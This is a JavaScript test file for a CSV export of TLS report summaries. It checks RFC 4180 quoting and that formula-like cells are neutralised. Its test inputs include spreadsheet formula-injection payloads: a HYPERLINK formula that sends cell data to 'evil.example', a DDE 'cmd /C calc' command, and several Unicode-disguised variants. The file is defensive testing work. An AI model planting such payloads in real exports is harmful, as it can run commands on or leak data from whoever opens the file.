/** Tables of a summary as CSV: RFC 4180, and no text becomes a formula. */

import assert from "node:assert/strict";
import { test } from "node:test";

import { readReports, reportsAsCsv } from "../../js/dist/node.js";
import { file, report } from "./tls-reports.mjs";

/** A document by which a text comes into a table as it is. */
const lineOf = (organization, sessions = { successful: 1, failed: 0 }) => ({
  documents: [
    {
      name: "a",
      state: "counted",
      organization,
      reportId: null,
      day: null,
      domain: null,
      sessions,
      notices: 0,
      note: null,
    },
  ],
});

/** The cells of a text in CSV (RFC 4180 §2). */
function parse(csv) {
  assert.match(csv, /\r\n$/);
  const rows = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy)) {
    rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === "\r\n") rows.push([]);
  }
  assert.deepEqual(rows.pop(), []);
  return rows;
}

/** How a text looks in its cell. */
function cellOf(text) {
  const [head, row, ...more] = parse(reportsAsCsv(lineOf(text), "documents"));
  assert.equal(row.length, head.length);
  assert.deepEqual(more, []);
  return row[head.indexOf("organization")];
}

for (const text of [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\tx",
  "\rx",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@",
  " =1+1",
  "\u{a0}=1+1",
  "\n=1+1",
  "\u{feff}=1+1",
  "\u{200b}@x",
  "\0=1",
  '"=1+1"',
  "'=1+1",
  "“=1+1”",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  '" \t=1',
]) {
  test(`p_10_a formula is neutralised: ${JSON.stringify(text)}`, () => {
    const cell = cellOf(text);
    assert.ok(cell.startsWith("'"), cell);
    assert.doesNotMatch(cell, /[\0-\x1f]/);
  });
}

for (const [text, expected = text] of [
  ["Google Inc."],
  ["a=b"],
  ["1+1"],
  ["mx-1.example.com"],
  ["x@example.com"],
  ['a, "b"'],
  ["a;b"],
  [" x "],
  ["a\r\nb", "a\\r\\nb"],
  ["\u{202e}x", "\\u{202e}x"],
  ["", ""],
]) {
  test(`what is no formula stays as it is: ${JSON.stringify(text)}`, () => assert.equal(cellOf(text), expected));
}

test("p_10_a text longer than a cell of Excel is cut: the rest would be the next row", () => {
  assert.equal(cellOf("x".repeat(32_767)), "x".repeat(32_767));
  assert.equal(cellOf(`${"x".repeat(32_767)}=1+1`), `${"x".repeat(32_766)}…`);
  assert.equal(cellOf(`=${"\n".repeat(32_767)}`).length, 32_767);
});

test("numbers stay numbers, and what is not known is empty", () => {
  const sessions = { successful: 9_007_199_254_740_991, failed: "340282366920938463463374607431768211455" };
  const csv = reportsAsCsv(lineOf(null, sessions), "documents");
  assert.equal(csv.split("\r\n")[1], "a,counted,,,,,9007199254740991,340282366920938463463374607431768211455,0,");
});

test("each table has a line of names, and as many cells in each row", async () => {
  const summary = await readReports([
    file("1.json", report(1, { failed: 2, organization: "=evil()" })),
    file("2.json", report(2, { failed: 1, organization: "B, Inc." })),
    file("no.json", "no"),
  ]);
  const tables = Object.fromEntries(
    ["sessions", "failures", "documents"].map((table) => [table, parse(reportsAsCsv(summary, table))]),
  );
  for (const rows of Object.values(tables)) for (const row of rows) assert.equal(row.length, rows[0].length);
  assert.deepEqual(tables.sessions.slice(1), [
    ["example.com", "2026-09-02", "10", "2"],
    ["example.com", "2026-09-03", "10", "1"],
  ]);
  const [head, failure, ...others] = tables.failures;
  assert.deepEqual(others, []);
  const values = Object.fromEntries(head.map((name, at) => [name, failure[at]]));
  assert.equal(values["result-type"], "certificate-expired");
  assert.equal(values.sessions, "3");
  assert.equal(values["mx-hosts"], "mx1.example.com (3)");
  assert.equal(values.senders, "'=evil() (2); B, Inc. (1)");
  assert.deepEqual(
    tables.documents.slice(1).map(([name, state]) => [name, state]),
    [
      ["1.json", "counted"],
      ["2.json", "counted"],
      ["no.json", "unreadable"],
    ],
  );
});

test("another table is refused with a sentence", () => {
  for (const table of ["days", "toString", undefined]) {
    assert.throws(() => reportsAsCsv(lineOf(""), table), {
      name: "MtaStsError",
      code: "argument",
      message: /^The table is one of sessions, failures, documents, not /,
    });
  }
});
